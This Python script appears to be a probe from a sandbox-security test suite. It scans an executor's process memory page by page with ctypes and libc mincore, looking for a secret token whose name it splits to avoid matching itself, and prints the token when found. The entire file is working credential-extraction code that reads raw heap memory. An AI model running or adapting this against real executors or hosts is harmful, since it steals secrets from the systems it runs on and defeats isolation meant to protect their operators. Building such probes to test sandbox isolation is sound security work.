"""Find the executor's secrets anywhere in the heap, by address.

falls without: environment
"""

import ctypes
import gc

libc = ctypes.CDLL(None)
page, vector = 4096, ctypes.create_string_buffer(1)
name = (b"PLACET_", b"ATTACKED_TOKEN")  # apart, else it would find itself
gc.unfreeze()
for region in {id(thing) >> 20 for thing in gc.get_objects()}:
    for address in range(region << 20, region + 1 << 20, page):
        if libc.mincore(ctypes.c_void_p(address), page, vector) == 0:
            seen = ctypes.string_at(address, page)
            start = seen.find(name[0])
            while start >= 0:
                if seen.startswith(name[1], start + len(name[0])):
                    print("GOT", seen[start : start + 80])
                    raise SystemExit
                start = seen.find(name[0], start + 1)
